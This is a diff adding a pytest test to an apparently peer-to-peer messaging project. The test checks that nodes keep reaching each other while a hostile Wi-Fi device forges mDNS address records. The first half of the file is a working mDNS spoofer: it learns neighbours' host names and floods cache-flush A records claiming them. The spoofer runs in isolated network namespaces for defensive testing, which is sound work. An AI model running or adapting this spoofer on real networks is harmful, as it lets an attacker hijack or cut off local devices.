@@ -1,0 +1,189 @@
+"""A hostile device on the Wi-Fi claims its neighbours' addresses. mDNS has no authentication: an address record
+(A) for a node's host name can come from anyone, and one sent with the cache-flush bit replaces the real one in
+every listener's cache (RFC 6762 10.2); the newest address is also the first one a resolver lists. A node that
+took the address of a service's latest announcement as the neighbour's only address would drop its link to the
+real neighbour and link to the device instead: the device could then cut the two apart, or sit between them.
+
+The device is this very file run as a program (``python test_lan_takeover.py claim ADDRESS``): it browses for
+Samizdat services as any device on the Wi-Fi can and learns their host names; on ``forge`` it sends, every second
+and again right after each real answer it hears, an address record with the cache-flush bit for every host name
+it learnt, giving its own address; on ``stop`` it stops and says how many it sent.
+"""
+
+from __future__ import annotations
+
+import json
+import select
+import socket
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from lan_netns import PORT, Lab, LanError, LanNode, neighbours_and_device, stop_group, wait_for
+from lan_netns import peer_urls as urls
+
+pytestmark = pytest.mark.slow
+
+SERVICE_TYPE = "_samizdat._tcp.local."
+DISCOVERY_TIMEOUT = 60.0
+ARRIVAL_TIMEOUT = 30.0
+COMMAND_TIMEOUT = 30.0  # the device's answer to one command
+FORGE_EVERY = 1.0  # seconds between two rounds of forged address records
+
+
+# -- the device (runs as a program in its own namespace) -----------------------------------------------------------
+
+
+def device(address: str) -> None:
+    """Take JSON commands on stdin, answer each with a JSON line: ``names`` (the services heard and their host
+    names), ``forge`` (start claiming every host name heard for ``address``), ``stop`` (stop; how many sent)."""
+    from zeroconf import IPVersion, RecordUpdate, RecordUpdateListener, ServiceBrowser, ServiceStateChange, Zeroconf
+    from zeroconf._dns import DNSAddress
+    from zeroconf._protocol.outgoing import DNSOutgoing
+    from zeroconf.const import _CLASS_IN, _CLASS_UNIQUE, _FLAGS_AA, _FLAGS_QR_RESPONSE, _TYPE_A
+
+    zc = Zeroconf(interfaces=[address], ip_version=IPVersion.V4Only)
+    mine = socket.inet_aton(address)
+    names: set[str] = set()
+    hosts: dict[str, str] = {}  # service name -> its host name (from its SRV record)
+    sent = {"rounds": 0, "answers": 0}
+    stop = threading.Event()
+    forging = threading.Event()
+
+    def forged() -> DNSOutgoing:
+        out = DNSOutgoing(_FLAGS_QR_RESPONSE | _FLAGS_AA)
+        for host in sorted(set(hosts.values())):
+            out.add_answer_at_time(DNSAddress(host, _TYPE_A, _CLASS_IN | _CLASS_UNIQUE, 120, mine), 0)
+        return out
+
+    class Answers(RecordUpdateListener):
+        """A real address record of a host we claim: claim it again at once (both are then cached, ours the
+        newest, listed first), and again once the real one is over a second old (ours then flushes it)."""
+
+        def async_update_records(self, zc: Zeroconf, now: float, records: list[RecordUpdate]) -> None:
+            if not forging.is_set():
+                return
+            for update in records:
+                record = update.new
+                if isinstance(record, DNSAddress) and record.name in hosts.values() and record.address != mine:
+                    sent["answers"] += 1
+                    zc.async_send(forged())
+                    assert zc.loop is not None
+                    zc.loop.call_later(1.1, lambda: zc.async_send(forged()))
+                    return
+
+    def seen(zeroconf: Zeroconf, service_type: str, name: str, state_change: ServiceStateChange) -> None:
+        if state_change is ServiceStateChange.Added:
+            names.add(name)
+
+    def forge() -> None:
+        while not stop.wait(0 if sent["rounds"] == 0 else FORGE_EVERY):
+            zc.send(forged())
+            sent["rounds"] += 1
+
+    browser = ServiceBrowser(zc, SERVICE_TYPE, handlers=[seen])
+    zc.add_listener(Answers(), None)
+    forger = threading.Thread(target=forge, daemon=True)
+    try:
+        for line in sys.stdin:
+            command = json.loads(line)
+            if command["do"] == "names":
+                for name in sorted(names - hosts.keys()):
+                    info = zc.get_service_info(SERVICE_TYPE, name, timeout=3000)
+                    if info is not None and info.server:
+                        hosts[name] = info.server
+            elif command["do"] == "forge":
+                forging.set()
+                forger.start()
+            elif command["do"] == "stop":
+                forging.clear()
+                stop.set()
+                forger.join(10)
+            print(json.dumps({"done": command["do"], "hosts": hosts, **sent}), flush=True)
+    finally:
+        stop.set()
+        browser.cancel()
+        zc.close()
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "claim":
+        device(sys.argv[2])
+    sys.exit(0)
+
+
+# -- driving it from the test --------------------------------------------------------------------------------------
+
+
+class Device:
+    """The device's program in ``node``'s namespace; stopped with the lab, or when the test leaves it."""
+
+    def __init__(self, lab: Lab, node: LanNode) -> None:
+        self.process = lab.device_program(node, Path(__file__), "claim")
+
+    def ask(self, do: str) -> dict[str, Any]:
+        """Send a command and return the device's answer."""
+        assert self.process.stdin is not None
+        assert self.process.stdout is not None
+        self.process.stdin.write(json.dumps({"do": do}).encode() + b"\n")
+        self.process.stdin.flush()
+        if not select.select([self.process.stdout], [], [], COMMAND_TIMEOUT)[0]:
+            raise LanError(f"the device did not answer {do!r} within {COMMAND_TIMEOUT:.0f} s")
+        answer: dict[str, Any] = json.loads(self.process.stdout.readline() or b"{}")
+        if answer.get("done") != do:
+            raise LanError(f"the device answered {answer!r} to {do!r}")
+        return answer
+
+    def __enter__(self) -> Device:
+        return self
+
+    def __exit__(self, *exc_info: object) -> None:
+        stop_group(self.process, timeout=5.0)
+        for pipe in (self.process.stdin, self.process.stdout):
+            if pipe is not None:
+                pipe.close()
+
+
+@pytest.fixture
+def claimed(lab: Lab) -> Iterator[tuple[LanNode, LanNode, LanNode, Device]]:
+    """A node and its honest neighbour that found each other, and a device on their Wi-Fi that learnt both host
+    names (not yet forging)."""
+    node, neighbour, device_node = neighbours_and_device(lab, DISCOVERY_TIMEOUT)
+    with Device(lab, device_node) as device:
+        wait_for(
+            lambda: len(device.ask("names")["hosts"]) >= 2,
+            DISCOVERY_TIMEOUT,
+            "the device to learn both host names",
+            interval=1.0,
+        )
+        yield node, neighbour, device_node, device
+
+
+def test_forged_addresses_do_not_cut_a_node_off_its_neighbour(
+    claimed: tuple[LanNode, LanNode, LanNode, Device],
+) -> None:
+    node, neighbour, device_node, device = claimed
+    device_url = f"ws://{device_node.addr}:{PORT}"
+    device.ask("forge")
+    # Both nodes took the forged address (the device's claim reached them and was believed as an address)...
+    wait_for(
+        lambda: device_url in urls(node) and device_url in urls(neighbour),
+        DISCOVERY_TIMEOUT,
+        "the forged address on both nodes' peer lists",
+    )
+    # ...and yet, while the device goes on claiming their host names, posts cross both ways between them.
+    there = neighbour.post("yard", "Water is off in blocks 3 to 9")
+    wait_for(lambda: node.has(there), ARRIVAL_TIMEOUT, "the neighbour's post on the node")
+    node.json("channel", "create", "block4", "--name", "Block 4")
+    back = node.post("block4", "Block 4 has water: bring buckets")
+    wait_for(lambda: neighbour.has(back), ARRIVAL_TIMEOUT, "the node's post on the neighbour")
+    assert neighbour.url in urls(node), "the node still knows its neighbour at its real address"
+    assert node.url in urls(neighbour), "the neighbour still knows the node at its real address"
+    assert "is also announced at" in node.output() + neighbour.output(), "the forged address was seen as one"
+    sent = device.ask("stop")
+    assert sent["rounds"] >= 2, f"the device forged all along: {sent}"
+    assert node.running
+    assert neighbour.running
